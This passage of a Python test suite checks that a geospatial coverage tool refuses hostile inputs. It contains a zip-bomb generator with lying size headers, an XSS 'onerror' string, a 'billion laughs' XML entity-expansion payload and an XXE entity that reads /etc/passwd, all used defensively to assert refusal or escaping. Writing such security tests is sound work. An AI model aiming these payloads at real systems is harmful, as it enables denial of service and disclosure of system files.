    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * (1 << 20)
    parts, crc = [], 0
    for _ in range(size // len(chunk)):
        parts.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(compressor.flush())
    data = b"".join(parts)
    name = b"streets.geojson"
    stated = size if declare is None else declare
    if stated >= 0xFFFFFFFF:
        pytest.skip("needs zip64")
    import struct

    local = (
        struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), stated, len(name), 0
        )
        + name
    )
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(data),
            stated,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


@pytest.mark.slow
@pytest.mark.parametrize(
    "size,declare",
    [(1100 << 20, None), (1030 << 20, 1000), (1030 << 20, None)],
    ids=["far-over-declared", "over-lying", "near-over-declared"],
)
def test_zip_bombs_are_refused(city, tmp_path, size, declare):
    path = tmp_path / "streets.zip"
    path.write_bytes(_zip_of_zeros(size, declare=declare))
    assert path.stat().st_size < 5e6
    run = cli("validate", path, "--as", "boundaries", "--base", city)
    # Declared sizes over the cap are refused before unpacking; a member whose header lies about
    # its size is never inflated past what it declares (zipfile stops there and its CRC fails).
    expected = r"unpacks to" if declare is None else r"Cannot unpack the zip member.*CRC"
    assert_refused(run, expected, names=["streets.zip"])
    assert not list(Path("/tmp").glob("geo-coverage-unzip-*/streets.geojson"))


# --- 7. encodings -------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-32-le", "utf-32-be"])
@pytest.mark.parametrize(
    "names", [("甲", "乙", "丙"), ("养老院，东", "Ｂ", "丙")], ids=["cjk", "fullwidth"]
)
def test_utf32_without_bom_is_named_as_utf32(capsys, city, tmp_path, encoding, names):
    path = tmp_path / "reg.csv"
    path.write_bytes(csv_of(register_frame(names=names), encoding))
    run = inproc(
        capsys, "validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city
    )
    assert_refused(run, r"UTF-32", names=["reg.csv"])
    assert "UTF-16" not in run.text


def test_utf32_with_its_bom_is_read(capsys, city, tmp_path):
    """UTF-32 with a byte-order mark is unambiguous (its BOM starts like UTF-16's: FF FE 00 00)."""
    path = tmp_path / "reg.csv"
    path.write_bytes(csv_of(register_frame(), "utf-32"))
    run = inproc(
        capsys, "validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city
    )
    assert run.code == 0 and "no problems found" in run.text, run.text


# --- 8. markup in names -------------------------------------------------------------------------


def test_markup_in_names_is_escaped_in_the_map(hostile_city):
    """Every user-supplied string reaches the page's HTML escaped: unit tooltips, facility popups,
    the legend, the layer names."""
    from geo_coverage import maps
    from geo_coverage.coverage import evaluate
    from geo_coverage.dataset import load_dataset
    from geo_coverage.plan import default_plan

    dataset = load_dataset(hostile_city, crs=METRIC)
    plan = default_plan()
    table = evaluate(dataset, plan, indicators=["elderly_beds_per_1000"])
    fmap = maps.coverage_map(
        table, dataset, plan, indicator="elderly_beds_per_1000", level="street", base_map="none"
    )
    html = maps.map_html(fmap)
    # Unit tooltips show GeoJSON properties as HTML: each must arrive escaped.
    shown = []

    def walk(element):
        data = getattr(element, "data", None)
        if isinstance(data, dict) and "features" in data:
            for feature in data["features"]:
                shown.extend(str(v) for v in feature["properties"].values() if isinstance(v, str))
        for child in getattr(element, "_children", {}).values():
            walk(child)

    walk(fmap)
    assert shown and not [text for text in shown if "<" in text or ">" in text]
    assert any("&lt;img src=x onerror=" in text for text in shown)  # still there, as text
    # Facility popups receive raw names in a data array and escape them when building the popup.
    assert "esc(row[3])" in html


# --- also holding: XML entities, large CSV, quoted newlines --------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def _xml_network(kind: str, payload: str) -> str:
    if kind == "osm":
        return (
            payload + '<osm version="0.6"><node id="1" lat="39.9" lon="116.4"><tag k="name" '
            'v="&lol9;"/></node><node id="2" lat="39.91" lon="116.4"/><way id="3"><nd ref="1"/>'
            '<nd ref="2"/><tag k="highway" v="residential"/></way></osm>'
        )
    return (
        payload + '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><key id="d0" for="node" '
        'attr.name="x" attr.type="string"/><graph edgedefault="directed"><node id="1">'
        '<data key="d0">&lol9;</data></node></graph></graphml>'
    )


EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>
"""


@pytest.mark.parametrize("kind", ["osm", "graphml"])
@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL], ids=["expansion", "external"])
def test_xml_entities_in_networks_are_refused(tmp_path, kind, payload):
    network = tmp_path / f"roads.{kind}"
    network.write_text(_xml_network(kind, payload), encoding="utf-8")
    lon, lat = 116.4, 39.9
    points = tmp_path / "p.csv"
    points.write_bytes(csv_of(pd.DataFrame({"id": ["a"], "lon": [lon], "lat": [lat]})))
    run = cli(
        "costs",
        "--network",
        network,
        "--origins",
        points,
        "--destinations",
        points,
        "--max-cost",
        10,
    )
    assert_refused(run, r"entit", names=[network.name])
    assert "root:" not in run.text


@pytest.mark.slow
def test_very_large_register_is_bounded(city, tmp_path):
    """A 150 MB register (2 million rows): refused or read within the bounds, never a traceback."""
    path = tmp_path / "reg.csv"
    lon, lat = lonlat(0.5)
    row = f",养老院,{lon:.6f},{lat:.6f},10\n"
    with open(path, "w", encoding="utf-8") as handle:
        handle.write("编号,名称,经度,纬度,床位数\n")
        for start in range(0, 2_000_000, 100_000):
            handle.write("".join(f"E{i:09d}{row}" for i in range(start, start + 100_000)))
    run = cli("validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city)
    assert_within_bounds(run)
    assert run.code == 2 and "rows" in run.text and "reg.csv" in run.text


def test_quoted_newlines_keep_spreadsheet_rows(capsys, city, tmp_path):
    """A name with line breaks inside quotes is one cell; the next problem names the spreadsheet
    row (record), not the text line."""
    lon, lat = lonlat(0.5)
    text = (
        "编号,名称,经度,纬度,床位数\n"
        f'E1,"多行\n名称\n第三行",{lon},{lat},10\n'
        f"E2,乙,{lon},{lat},十张\n"
    )
    path = tmp_path / "reg.csv"
    path.write_text(text, encoding="utf-8")
    run = inproc(
        capsys, "validate", path, "--as", "facilities", "--kind", "elderly_care", "--base", city
    )
    assert_refused(run, r"'十张' is not a number", names=["reg.csv"], row=3, column="床位数")
